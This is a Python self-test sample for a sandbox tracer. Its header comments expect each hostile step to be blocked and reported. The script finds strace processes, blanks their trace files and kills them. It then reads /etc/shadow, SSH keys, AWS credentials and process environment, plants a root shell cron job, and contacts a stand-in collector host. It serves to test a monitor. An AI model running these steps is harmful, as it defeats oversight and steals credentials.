# Issue 27's first bypass: it hunts for its tracer and the trace (every process's command line,
# the file named after strace's -o, that file through /proc/PID/root), tries to blank the trace and
# to kill the tracer, and then does what it came for. Every attempt must be in the report.
# selftest: expect: Reach for the sandbox's tracer = blocked
# selftest: expect: Read sensitive file untrusted @ /etc/shadow = blocked
# selftest: expect: Read ssh information = blocked
# selftest: expect: Read credential files @ .aws/credentials = blocked
# selftest: expect: Read environment variable from /proc files
# selftest: expect: Schedule Cron Jobs @ /etc/cron.d/owned = blocked
# selftest: expect: Outbound connection @ 203.0.113.7:443 = blocked
# selftest: expect: DNS lookup @ collector.example = blocked
# selftest: expect: Non sudo setuid = blocked
# selftest: complete
# selftest: verdict-not: tried nothing
import os
import signal
import socket


def quietly(f, *a):
    try:
        return f(*a)
    except Exception:
        return None


def read(path, mode="rb"):
    with open(path, mode) as f:
        return f.read()


def blank(path):
    with open(path, "r+b") as f:
        f.truncate(0)


for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    args = (quietly(read, f"/proc/{pid}/cmdline") or b"").split(b"\0")
    if b"-o" in args:
        trace = args[args.index(b"-o") + 1].decode()
        quietly(blank, trace)
        quietly(blank, f"/proc/{pid}/root{trace}")
    quietly(os.kill, int(pid), signal.SIGKILL)

quietly(read, "/etc/shadow")
quietly(read, os.path.expanduser("~/.ssh/id_rsa"))
quietly(read, os.path.expanduser("~/.aws/credentials"))
quietly(read, "/proc/self/environ")
quietly(lambda: open("/etc/cron.d/owned", "w").write("* * * * * root sh -i\n"))
s = socket.socket()
s.settimeout(2)
quietly(s.connect, ("203.0.113.7", 443))
quietly(socket.getaddrinfo, "collector.example", 443)
quietly(os.setuid, 0)
